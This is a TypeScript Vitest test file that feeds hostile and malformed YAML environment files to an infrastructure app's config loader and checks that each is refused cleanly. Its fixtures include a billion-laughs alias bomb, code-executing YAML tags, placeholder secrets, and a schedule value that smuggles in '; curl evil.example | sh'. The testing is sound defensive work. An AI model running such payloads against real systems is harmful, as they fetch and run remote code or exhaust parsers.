// Hostile and malformed environment files, run through the app's entry point.
//
// Each case writes one bad file next to the valid examples in a fresh directory and runs the
// app (cli/app.ts's runApp, what main.ts and cdktf.json's `node cli/run.cjs app` call) in this
// process. Whatever the file holds, the app must return 1 with one
// `<file>: <field.path or (file)>: <message>` line per problem, no stack trace, and write
// nothing at all (one bad file blocks every environment). A handful of cases (END_TO_END) also
// run as cdktf runs the app, all in one child process of the bundle, with the same assertions
// plus the exit code and signal a process has; the costly inputs' time bounds are in-process.
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseDocument } from "yaml";
import { MAX_CONFIG_BYTES, parseEnvironment } from "../../config/load";
import { CONFIG_DIR, REPO_ROOT, stackNamesOf } from "../helpers";
import {
  EXAMPLES,
  NODE_ERROR_PREFIX,
  NODE_INTERNAL,
  STACK_TRACE,
  runApp,
  runAppInProcess,
  scratchWithExamples,
  type AppRun,
  type Scratch,
} from "../support/run-app";

const example = (name: "homelab" | "staging") => readFileSync(join(CONFIG_DIR, `${name}.yaml`), "utf8");

/** Replaces `from` (which must occur) in `text`. */
function edit(text: string, from: string | RegExp, to: string): string {
  const found = typeof from === "string" ? text.includes(from) : from.test(text);
  if (!found) throw new Error(`test setup: ${String(from)} not found in the example; update the hostile-input case`);
  return text.replace(from, to);
}

/** Removes a top-level section (its key line and every indented or blank line after it). */
function dropSection(text: string, key: string): string {
  return edit(text, new RegExp(`^${key}:.*\\n(?:(?:[ \\t].*)?\\n)*`, "m"), "");
}

/** 1-based line of the first occurrence of `marker`. */
function lineOf(text: string, marker: string): number {
  const i = text.indexOf(marker);
  if (i < 0) throw new Error(`test setup: marker ${JSON.stringify(marker)} not found`);
  return text.slice(0, i).split("\n").length;
}

const escapeRegExp = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

let huge: string | undefined;
/** 5 MB of plausible YAML: the homelab example followed by thousands of ordinary-looking keys. Built once (it is used 5 times). */
function hugeYaml(): string {
  huge ??= buildHugeYaml();
  return huge;
}

function buildHugeYaml(): string {
  const parts = [example("homelab"), "labels:\n"];
  let size = parts[0]!.length;
  for (let i = 0; size < 5 * 1024 * 1024; i++) {
    const line = `  team-${i}: "platform engineering, on call week ${i % 52}, escalation tier ${i % 3}"\n`;
    parts.push(line);
    size += line.length;
  }
  return parts.join("");
}

/** "Billion laughs": nine levels of anchors, each aliasing the previous one nine times. */
function aliasBomb(): string {
  const lines = ['lol0: &lol0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i <= 9; i++)
    lines.push(
      `lol${i}: &lol${i} [${Array(9)
        .fill(`*lol${i - 1}`)
        .join(",")}]`,
    );
  return `${example("homelab")}\n${lines.join("\n")}\n`;
}

const OPENSSH_KEY = [
  "-----BEGIN OPENSSH PRIVATE KEY-----",
  "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
  "QyNTUxOQAAACBhc2RmYXNkZmFzZGZhc2RmYXNkZmFzZGZhc2RmYXNkZmFzZGYAAAAA",
  "-----END OPENSSH PRIVATE KEY-----",
];

interface HostileCase {
  readonly what: string;
  /** Name of the bad file in the config directory. @default "qa.yaml" */
  readonly file?: string;
  readonly content: () => string | Uint8Array;
  /** The field the line must name, or "(file)" for whole-file problems. */
  readonly path: string;
  /** What the message after `<file>: <path>: ` must match. */
  readonly message: RegExp;
  /** The problem's line in the file, when it must be reported. */
  readonly line?: (text: string) => number;
  /**
   * Longest acceptable time, as a multiple of the median in-process run (the fastest of three
   * runs of this case: a busy shared machine makes any single run slow; absolute bounds are
   * flaky). The parser's own bound is measured in-process below.
   */
  readonly maxTimesMedian?: number;
  /**
   * The refusal must be faster than the YAML parser reading only this many bytes of the file
   * (measured in the same run, so both slow down together on a busy machine): proof that the
   * file was refused before it was parsed. Parsing the whole 5 MB file takes over 30 s.
   */
  readonly fasterThanParsingBytes?: number;
}

const homelabWith = (from: string | RegExp, to: string) => () => edit(example("homelab"), from, to);
const stagingWith = (from: string | RegExp, to: string) => () => edit(example("staging"), from, to);
const REFERENCE_HINT_DOCKER = /write it to a root-only file under <docker\.dataRoot>\/secrets\/ on the Docker host and write \{ hostFile: <file name> \}/;
const REFERENCE_HINT_AWS = /store it in AWS Secrets Manager and write \{ secretsManagerArn: arn:aws:secretsmanager:/;

const cases: HostileCase[] = [
  // ---- wrong types ----
  {
    what: "string for a number (quoted port)",
    content: homelabWith(/sshPort: 2222\b/, 'sshPort: "2222"'),
    path: "gitlab.sshPort",
    message: /must be number, got the string '2222'/,
    line: (t) => lineOf(t, "sshPort:"),
  },
  {
    what: "number for a string (version YAML reads as a float)",
    content: homelabWith("version: 18.5.1-ce.0", "version: 18.5"),
    path: "gitlab.version",
    message: /must be string, got number 18\.5/,
  },
  {
    what: "list for a mapping",
    content: homelabWith(/ {2}nfs:\n {4}server: .*\n {4}export: .*\n/, "  nfs: [truenas.example.com, /mnt/tank/backups/gitlab]\n"),
    path: "backups.nfs",
    message: /must be object, got a list/,
  },
  {
    what: "mapping for a list",
    content: stagingWith(/privateSubnetIds: \[.*\]/, "privateSubnetIds: { first: subnet-0b00000000000000b }"),
    path: "aws.privateSubnetIds",
    message: /must be array, got a mapping/,
  },
  {
    what: "boolean for a string",
    content: homelabWith("  hostname: gitlab\n", "  hostname: true\n"),
    path: "gitlab.hostname",
    message: /must be string, got boolean true/,
  },
  // ---- out of range ----
  {
    what: "port 0",
    content: homelabWith(/(smtp:\n(?: {4}.*\n)*?) {4}port: 587/, "$1    port: 0"),
    path: "gitlab.smtp.port",
    message: /must be at least 1, got 0/,
  },
  {
    what: "port 70000",
    content: homelabWith(/sshPort: 2222\b/, "sshPort: 70000"),
    path: "gitlab.sshPort",
    message: /must be at most 65535, got 70000/,
  },
  {
    what: "negative retention",
    content: homelabWith(/(backups:\n(?: {2}.*\n)*?) {2}retentionDays: \d+/, "$1  retentionDays: -7"),
    path: "backups.retentionDays",
    message: /must be at least 1, got -7/,
  },
  {
    what: "runner minSize greater than maxSize",
    content: stagingWith(/minSize: \d+/, "minSize: 5"),
    path: "runners.desiredCapacity",
    message: /must satisfy minSize <= desiredCapacity <= maxSize/,
  },
  // ---- unknown keys at every level ----
  {
    what: "unknown key at the top level",
    content: () => `${example("homelab")}\nmonitoring:\n  enabled: true\n`,
    path: "monitoring",
    message: /unknown key; check its spelling against config\/environment\.schema\.json/,
  },
  {
    what: "unknown key inside gitlab",
    content: homelabWith("  hostname: gitlab\n", "  hostname: gitlab\n  hostnmae: git\n"),
    path: "gitlab.hostnmae",
    message: /unknown key/,
    line: (t) => lineOf(t, "hostnmae"),
  },
  {
    what: "unknown key inside gitlab.smtp",
    content: homelabWith(/(smtp:\n)/, "$1    starttls: true\n"),
    path: "gitlab.smtp.starttls",
    message: /unknown key/,
  },
  {
    what: "unknown key inside runners.build",
    content: homelabWith(/( {2}build:\n)/, "$1    image: alpine:3.20\n"),
    path: "runners.build.image",
    message: /unknown key/,
  },
  {
    what: "unknown key inside docker.images",
    content: homelabWith(/(^docker:\n)/m, "$1  images:\n    gitlab: gitlab/gitlab-ce:18.5.1-ce.0\n"),
    path: "docker.images.gitlab",
    message: /unknown key/,
  },
  {
    what: "unknown key inside aws",
    content: stagingWith(/(^aws:\n)/m, "$1  instanceTypo: t3a.large\n"),
    path: "aws.instanceTypo",
    message: /unknown key/,
  },
  {
    what: "unknown key inside a host file reference",
    content: homelabWith("password: { hostFile: gitlab_smtp_password }", "password: { hostFile: gitlab_smtp_password, default: x }"),
    path: "gitlab.smtp.password.default",
    message: /unknown key/,
  },
  {
    what: "unknown key inside a Secrets Manager reference",
    content: stagingWith(/(password: \{ secretsManagerArn: "[^"]*smtp[^"]*")/, "$1, versionStage: AWSCURRENT"),
    path: "gitlab.smtp.password.versionStage",
    message: /unknown key/,
  },
  // ---- sections ----
  {
    what: "another platform's section (aws: on docker)",
    content: () => `${example("homelab")}\naws:\n  region: eu-west-3\n`,
    path: "aws",
    message: /only valid when platform is 'aws' \(this environment's platform is 'docker'\)/,
  },
  {
    what: "another platform's section (docker: on aws)",
    content: () => `${example("staging")}\ndocker:\n  publicAddress: 192.0.2.10\n`,
    path: "docker",
    message: /only valid when platform is 'docker' \(this environment's platform is 'aws'\)/,
  },
  {
    what: "missing required section (runners on docker)",
    content: () => dropSection(example("homelab"), "runners"),
    path: "runners",
    message: /is required \(object\)/,
  },
  {
    what: "missing required section (tls on aws)",
    content: () => dropSection(example("staging"), "tls"),
    path: "tls",
    message: /is required \(object\)/,
  },
  {
    what: "null where a section is required",
    content: () => `${dropSection(example("homelab"), "observability")}observability: null\n`,
    path: "observability",
    message: /must be object, got null/,
  },
  {
    what: "wrong platform value",
    content: homelabWith(/^platform: docker$/m, "platform: openshift"),
    path: "platform",
    message: /must be 'aws', 'docker' or 'kubernetes'/,
  },
  {
    what: "a list instead of a mapping at the root",
    content: () => "- platform: docker\n- domain: example.com\n",
    path: "(file)",
    message: /must be a YAML mapping of settings/,
  },
  // ---- whole-file problems ----
  {
    what: "empty file",
    content: () => "",
    path: "(file)",
    message: /file is empty; start from one of the examples in config\//,
  },
  {
    what: "a file of only comments",
    content: () => "# yaml-language-server: $schema=./environment.schema.json\n# TODO: fill in\n\n   # indented comment\n",
    path: "(file)",
    message: /file is empty; start from one of the examples in config\//,
  },
  {
    what: "YAML alias bomb (billion laughs)",
    content: aliasBomb,
    path: "(file)",
    message: /YAML: Excessive alias count indicates a resource exhaustion attack/,
    maxTimesMedian: 3,
  },
  {
    what: "duplicate key",
    content: homelabWith("  hostname: gitlab\n", "  hostname: gitlab\n  hostname: git\n"),
    path: "gitlab.hostname",
    message: /YAML: Map keys must be unique/,
    line: (t) => lineOf(t, "hostname: git\n"),
  },
  {
    what: "tab indentation",
    content: homelabWith("  hostname: gitlab\n", "\thostname: gitlab\n"),
    path: "(file)",
    message: /YAML: Tabs are not allowed as indentation/,
    line: (t) => lineOf(t, "\thostname"),
  },
  {
    what: "not UTF-8 (bytes 0xff 0xfe inside)",
    content: () => {
      const text = Buffer.from(example("homelab"), "utf8");
      const at = text.indexOf("\n") + 1;
      return Buffer.concat([text.subarray(0, at), Buffer.from([0x23, 0x20, 0xff, 0xfe, 0x0a]), text.subarray(at)]);
    },
    path: "(file)",
    message: /file is not valid UTF-8; save it as UTF-8/,
  },
  {
    what: "huge file (5 MB of valid-looking YAML) is refused fast",
    content: hugeYaml,
    path: "(file)",
    message: new RegExp(`file is larger than ${MAX_CONFIG_BYTES} bytes, the most an environment file may be`),
    fasterThanParsingBytes: 256 * 1024,
  },
  {
    what: "UTF-8 BOM does not shift positions",
    content: () => `\uFEFF${edit(example("homelab"), /sshPort: 2222\b/, "sshPort: 70000")}`,
    path: "gitlab.sshPort",
    message: /must be at most 65535, got 70000/,
    line: (t) => lineOf(t, "sshPort:"),
  },
  {
    what: "a stream of two YAML documents",
    content: () => `---\n${example("homelab")}---\n${example("homelab")}`,
    path: "(file)",
    message: /YAML: a file holds one environment: remove the second document/,
  },
  {
    what: "custom tag !!js/function",
    content: homelabWith("emailFrom: gitlab@example.com", "emailFrom: !!js/function 'function () { return process.exit(0) }'"),
    path: "(file)",
    message: /YAML: Unresolved tag: tag:yaml\.org,2002:js\/function/,
    line: (t) => lineOf(t, "!!js/function"),
  },
  {
    what: "custom tag !ruby/object",
    content: homelabWith("emailFrom: gitlab@example.com", "emailFrom: !ruby/object:Gem::Installer { i: x }"),
    path: "(file)",
    message: /YAML: Unresolved tag: !ruby\/object:Gem::Installer/,
  },
  {
    what: "invalid file name (Staging.yaml)",
    file: "Staging.yaml",
    content: () => example("staging"),
    path: "(file)",
    message: /the file name 'Staging' must be a lower-case environment name \(letters, digits, '-'; at most 31\) — it becomes the stack name/,
  },
  // ---- removed settings ----
  {
    what: "a runner token host file (the second stack registers the runners now)",
    content: homelabWith("    jobImage: alpine:3.20", "    token: { hostFile: runner_token_build }\n    jobImage: alpine:3.20"),
    path: "runners.build.token",
    message:
      /no longer used: the `<env>-gitlab` stack registers this runner \(gitlab_user_runner\) and uploads its token into the runner's container\. Remove this key/,
  },
  // ---- secrets pasted as literals ----
  {
    what: "runner token pasted as a literal (glrt-)",
    content: homelabWith("    jobImage: alpine:3.20", "    token: glrt-AbCdEfGhIjKlMnOpQrSt\n    jobImage: alpine:3.20"),
    path: "runners.build.token",
    message: new RegExp(
      `looks like a GitLab runner authentication token pasted into config; secrets are never written in config — ${REFERENCE_HINT_DOCKER.source}`,
    ),
  },
  {
    what: "personal access token pasted as a literal (glpat-)",
    content: stagingWith(/password: \{ secretsManagerArn: "[^"]*smtp[^"]*" \}/, "password: glpat-0123456789abcdefghij"),
    path: "gitlab.smtp.password",
    message: new RegExp(`looks like a GitLab access token pasted into config; .*${REFERENCE_HINT_AWS.source}`),
  },
  {
    what: "AWS access key id pasted into a tag",
    content: stagingWith(/( {2}tags:\n)/, "$1    AccessKey: AKIAIOSFODNN7EXAMPLE\n"),
    path: "aws.tags.AccessKey",
    message: /looks like an AWS access key id pasted into config/,
  },
  {
    what: "OpenSSH private key pasted as a literal",
    content: stagingWith(/privateKey: \{ secretsManagerArn: "[^"]+" \}/, `privateKey: |\n${OPENSSH_KEY.map((l) => `    ${l}`).join("\n")}`),
    path: "tls.privateKey",
    message: new RegExp(`looks like a private key pasted into config; .*${REFERENCE_HINT_AWS.source}`),
  },
  {
    what: "plain password where a reference belongs",
    content: homelabWith("password: { hostFile: gitlab_smtp_password }", 'password: "correct horse battery staple"'),
    path: "gitlab.smtp.password",
    message: /looks like a literal value for the secret field 'password' pasted into config/,
  },
  // ---- pinning and schedules ----
  {
    what: "image on the latest tag",
    content: homelabWith("jobImage: alpine:3.20", "jobImage: alpine:latest"),
    path: "runners.build.jobImage",
    message: /must not use the 'latest' tag: pin a version/,
  },
  {
    what: "image without a tag",
    content: homelabWith(/(^docker:\n)/m, "$1  images:\n    grafana: grafana/grafana\n"),
    path: "docker.images.grafana",
    message: /must pin a tag or digest, e.g\. 'alpine:3\.20' — an untagged image means 'latest'/,
  },
  {
    what: "GitLab version 'latest'",
    content: homelabWith("version: 18.5.1-ce.0", "version: latest"),
    path: "gitlab.version",
    message: /must be an exact GitLab CE version like '18\.5\.1-ce\.0' \(no 'latest'\)/,
  },
  {
    what: "invalid cron schedule (four fields)",
    content: homelabWith(/schedule: "0 2 \* \* \*"/, 'schedule: "0 2 * *"'),
    path: "backups.schedule",
    message: /invalid cron schedule: must have five fields/,
  },
  {
    what: "invalid cron schedule (minute 61)",
    content: homelabWith(/schedule: "0 2 \* \* \*"/, 'schedule: "61 2 * * *"'),
    path: "backups.schedule",
    message: /invalid cron schedule: minute '61' is out of range 0-59/,
  },
  {
    what: "OnCalendar schedule with shell metacharacters (aws backups)",
    content: stagingWith(/schedule: "0 2 \* \* \*"/, 'schedule: "*-*-* 02:00:00; curl evil.example | sh"'),
    path: "backups.schedule",
    message: /invalid cron schedule: must have five fields/,
  },
  // ---- parser robustness ----
  {
    what: "deeply nested garbage (1000 unclosed '[')",
    content: () => `${example("homelab")}\nextra: ${"[".repeat(1000)}\n`,
    path: "(file)",
    message: /nesting is 1000 levels deep; an environment file needs fewer than 64/,
  },
  {
    what: "deeply nested but balanced flow sequences (1000 levels)",
    content: () => `${example("homelab")}\nextra: ${"[".repeat(1000)}${"]".repeat(1000)}\n`,
    path: "(file)",
    message: /YAML: |nest|deep/i,
  },
];

interface CaseRun extends AppRun {
  readonly scratch: Scratch;
  /** The bad file's path as the app prints it (relative to the project root) and absolute. */
  readonly shown: readonly string[];
  /** Every bad file in the config directory (one, but for the child process refusing several). */
  readonly badFiles: readonly string[];
  /** Their paths as the app may print them. */
  readonly badShown: readonly string[];
  readonly text: string;
  /** What the scratch directory and its config directory held right after the run. */
  readonly left: readonly string[];
  readonly configLeft: readonly string[];
  /** Whether the output directory existed right after the run. */
  readonly wroteOutdir: boolean;
  /** Examples whose bytes differ from config/'s after the run. */
  readonly examplesChanged: readonly string[];
}

const EXAMPLE_BYTES = new Map(EXAMPLES.map((f) => [f, readFileSync(join(CONFIG_DIR, f))]));
/** Every scratch directory made, removed after all. */
const scratches: Scratch[] = [];
function freshScratch(): Scratch {
  const scratch = scratchWithExamples("hostile-input-");
  scratches.push(scratch);
  return scratch;
}

const shownAs = (file: string) => [relative(REPO_ROOT, file), file];

/** Writes the case's bad file (as `name`) beside the examples in `scratch`. */
function prepare(c: HostileCase, scratch: Scratch, name = c.file ?? "qa.yaml"): { scratch: Scratch; file: string; text: string } {
  const file = join(scratch.configDir, name);
  const content = c.content();
  writeFileSync(file, content);
  return { scratch, file, text: typeof content === "string" ? content : Buffer.from(content).toString("latin1") };
}

function finish(prepared: ReturnType<typeof prepare>, run: AppRun, badFiles = [prepared.file]): CaseRun {
  const { scratch, file, text } = prepared;
  return {
    ...run,
    scratch,
    shown: shownAs(file),
    badFiles: badFiles.map((f) => relative(scratch.configDir, f)),
    badShown: badFiles.flatMap(shownAs),
    text,
    left: readdirSync(scratch.dir).sort(),
    configLeft: readdirSync(scratch.configDir).sort(),
    wroteOutdir: existsSync(scratch.outdir),
    examplesChanged: EXAMPLES.filter((f) => {
      const path = join(scratch.configDir, f);
      return !existsSync(path) || !readFileSync(path).equals(EXAMPLE_BYTES.get(f)!);
    }),
  };
}

function runInProcess(c: HostileCase): CaseRun {
  const prepared = prepare(c, freshScratch());
  return finish(prepared, runAppInProcess(prepared.scratch.configDir, prepared.scratch.outdir));
}

async function runAsChildProcess(c: HostileCase): Promise<CaseRun> {
  const prepared = prepare(c, freshScratch());
  return finish(prepared, await runApp(prepared.scratch.configDir, prepared.scratch.outdir));
}

/**
 * The refusals, each as e2e-<n>.yaml, beside the examples in one directory, refused by one
 * child process: the app reads and reports every file whatever the others hold (each file's
 * report is checked against its in-process run alone), so one process shows for all of them
 * what only a process shows (its exit code and signal, what Node prints, the bundle's code).
 * The time bound is the process's, for all of them together.
 */
async function refuseInOneChildProcess(list: readonly HostileCase[]): Promise<CaseRun[]> {
  const scratch = freshScratch();
  const prepared = list.map((c, i) => prepare(c, scratch, `e2e-${i + 1}.yaml`));
  const files = prepared.map((p) => p.file);
  const run = await runApp(scratch.configDir, scratch.outdir);
  return prepared.map((p) => finish(p, run, files));
}

const BOM_VALID = "UTF-8 BOM before a valid file";
// Not a failure: a UTF-8 BOM is legal YAML (YAML 1.2, 5.2), editors on Windows add it, and the
// decoder strips it, so such a file is accepted like any other (checked below). Its own host
// names and Docker host: a plain copy would collide with homelab.yaml.
const bomValid: HostileCase = {
  what: BOM_VALID,
  file: "bom.yaml",
  content: () =>
    `\uFEFF${example("homelab")
      .replace(/^domain: .*$/m, "domain: bom.example.com")
      .replace("publicAddress: 192.0.2.10", "publicAddress: 192.0.2.30")}`,
  path: "",
  message: /^$/,
};

/**
 * The cases also run in a child process of the bundle: ordinary refusals (a schema problem
 * with its line, bytes that are not text, a code-executing tag) and the costly inputs (a
 * resource-exhaustion attack, a file too big), together in one; the valid BOM file that
 * synthesizes in another.
 */
const END_TO_END = [
  "string for a number (quoted port)",
  "not UTF-8 (bytes 0xff 0xfe inside)",
  "custom tag !!js/function",
  "YAML alias bomb (billion laughs)",
  "huge file (5 MB of valid-looking YAML) is refused fast",
];
const refusedEndToEnd = cases.filter((c) => END_TO_END.includes(c.what));
const endToEnd = [...refusedEndToEnd, bomValid];

const runs = new Map<string, CaseRun>();
const childRuns = new Map<string, CaseRun>();

beforeAll(async () => {
  for (const c of cases) runs.set(c.what, runInProcess(c));
  const [refused, bom] = await Promise.all([refuseInOneChildProcess(refusedEndToEnd), runAsChildProcess(bomValid)]);
  for (const [i, c] of refusedEndToEnd.entries()) childRuns.set(c.what, refused[i]!);
  childRuns.set(BOM_VALID, bom);
}, 180_000);

afterAll(() => {
  for (const s of scratches) rmSync(s.dir, { recursive: true, force: true });
});

/** The fastest of three parses of `text` by the YAML library the loader uses. */
function fastestParseMs(text: string): number {
  const times = [0, 1, 2].map(() => {
    const start = performance.now();
    parseDocument(text);
    return performance.now() - start;
  });
  return Math.min(...times);
}

/** The median time of the in-process runs. */
function medianMs(): number {
  const ms = [...runs.values()].map((r) => r.ms).sort((a, b) => a - b);
  return ms[Math.floor(ms.length / 2)] ?? Number.NaN;
}

/** The run's problem lines about its case's file, without the file's path. */
function reportOf(r: CaseRun): string[] {
  const prefix = new RegExp(`^(?:${r.shown.map(escapeRegExp).join("|")}): `);
  return r.stderr
    .split("\n")
    .filter((l) => prefix.test(l))
    .map((l) => l.replace(prefix, ""));
}

const SUMMARY = /^\d+ problem\(s\) found; nothing was synthesized\.$/;

/** What every refused file must produce: the problem line, nothing else, nothing written. */
function expectRefused(c: HostileCase, r: CaseRun): void {
  const report = `exit ${r.status}${r.signal ? ` (${r.signal})` : ""} after ${Math.round(r.ms)} ms\n--- stderr ---\n${r.stderr}--- stdout ---\n${r.stdout}`;

  // A user sees problem lines, never the app's insides.
  expect(r.stderr, `stack trace in stderr:\n${report}`).not.toMatch(STACK_TRACE);
  expect(r.stderr, `uncaught error in stderr:\n${report}`).not.toMatch(NODE_ERROR_PREFIX);
  expect(r.stderr, report).not.toMatch(NODE_INTERNAL);
  expect(r.stdout, report).not.toMatch(STACK_TRACE);
  expect(r.stdout, report).not.toMatch(NODE_INTERNAL);
  expect(r.signal, report).toBeNull();
  expect(r.status, report).toBe(1);

  // The expected line: `<file>: <path>: <message>`, with the line number where one is required.
  const prefix = `^(?:${r.shown.map(escape).join("|")}): ${escapeRegExp(c.path)}: `;
  const lines = r.stderr.split("\n").filter((l) => l !== "");
  const expected = new RegExp(`${prefix}(?:${c.message.source})`, c.message.flags.replace("g", ""));
  const hit = lines.find((l) => expected.test(l));
  expect(hit, `no line matching ${expected}:\n${report}`).toBeDefined();
  if (c.line) expect(hit, report).toMatch(new RegExp(`\\(line ${c.line(r.text)}, column \\d+\\)$`));

  // Every problem is in the bad file (the examples are fine), and the summary closes the report.
  const problemLines = lines.slice(0, -1);
  for (const l of problemLines) expect(l, report).toMatch(new RegExp(`^(?:${r.badShown.map(escape).join("|")}): `));
  expect(lines.at(-1), report).toMatch(SUMMARY);
  expect(lines.at(-1), report).toContain(`${problemLines.length} problem(s)`);

  // Nothing was written: no output, no scratch directory, the config directory untouched.
  expect(r.wroteOutdir).toBe(false);
  expect(r.left, "files left beside the config directory").toEqual(["config"]);
  expect(r.configLeft).toEqual([...EXAMPLES, ...r.badFiles].sort());
  expect(r.examplesChanged, "examples changed by the run").toEqual([]);

  expect(r.ms, `the run took ${Math.round(r.ms)} ms`).toBeLessThan(20_000);
}

describe("hostile environment files, through the app's entry point", () => {
  it("covers at least 30 malformed files, each with a distinct description", () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
    expect(new Set(cases.map((c) => c.what)).size).toBe(cases.length);
  });

  it.each(cases.map((c) => [c.what, c] as const))("%s", (what, c) => {
    const r = runs.get(what);
    if (!r) throw new Error(`no run for ${what}`);
    expectRefused(c, r);
    if (c.maxTimesMedian || c.fasterThanParsingBytes) {
      const again = [runInProcess(c), runInProcess(c)];
      const fastest = Math.min(r.ms, ...again.map((a) => a.ms));
      if (c.maxTimesMedian) {
        expect(fastest, `the fastest of three runs took ${Math.round(fastest)} ms, the median run ${Math.round(medianMs())} ms`).toBeLessThan(
          c.maxTimesMedian * medianMs(),
        );
      }
      if (c.fasterThanParsingBytes) {
        const parseMs = fastestParseMs(String(c.content()).slice(0, c.fasterThanParsingBytes));
        expect(
          fastest,
          `the fastest of three runs took ${Math.round(fastest)} ms; parsing ${c.fasterThanParsingBytes} bytes of it takes ${Math.round(parseMs)} ms`,
        ).toBeLessThan(parseMs);
      }
    }
  });
});

describe("hostile environment files, through the real app as cdktf runs it (a child process)", () => {
  it("END_TO_END names cases, among them every costly one", () => {
    expect(endToEnd.map((c) => c.what).sort()).toEqual([...END_TO_END, BOM_VALID].sort());
    for (const c of cases.filter((c) => c.maxTimesMedian || c.fasterThanParsingBytes)) expect(END_TO_END).toContain(c.what);
  });

  it.each(refusedEndToEnd.map((c) => [c.what, c] as const))("%s", (what, c) => {
    const r = childRuns.get(what);
    const alone = runs.get(what);
    if (!r || !alone) throw new Error(`no run for ${what}`);
    expectRefused(c, r);
    expect(reportOf(r), "the child's lines for this file, and the in-process run's of this file alone").toEqual(reportOf(alone));
  });

  it("accepts a UTF-8 BOM before a valid file and synthesizes it like any other", () => {
    const r = childRuns.get(BOM_VALID);
    if (!r) throw new Error("no run for the BOM case");
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
    expect(readdirSync(join(r.scratch.outdir, "stacks")).sort()).toEqual(stackNamesOf(["bom", "cluster", "homelab", "k3s-homelab", "production", "staging"]));
    expect(r.left).toEqual(["cdktf.out", "config"]);
  });
});

describe("parser limits, in-process", () => {
  it("parseEnvironment reports 10 000 nested '[' as a problem instead of throwing", () => {
    const text = `platform: docker\nextra: ${"[".repeat(10_000)}${"]".repeat(10_000)}\n`;
    let result: ReturnType<typeof parseEnvironment> | undefined;
    expect(() => {
      result = parseEnvironment("config/deep.yaml", new TextEncoder().encode(text));
    }).not.toThrow();
    expect(result?.environment).toBeUndefined();
    expect(result?.problems.length).toBeGreaterThan(0);
  });

  it("parseEnvironment refuses a 5 MB file in under 100 ms", () => {
    const bytes = new TextEncoder().encode(hugeYaml());
    expect(bytes.byteLength).toBeGreaterThan(5 * 1024 * 1024 - 1);
    parseEnvironment("config/warm.yaml", new TextEncoder().encode("platform: docker\n")); // load lazily-initialized code first
    const started = performance.now();
    const result = parseEnvironment("config/huge.yaml", bytes);
    const ms = performance.now() - started;
    expect(result.environment).toBeUndefined();
    expect(result.problems.map((p) => `${p.path || "(file)"}: ${p.message}`)).toEqual([
      `(file): file is larger than ${MAX_CONFIG_BYTES} bytes, the most an environment file may be`,
    ]);
    expect(ms).toBeLessThan(100);
  });
});
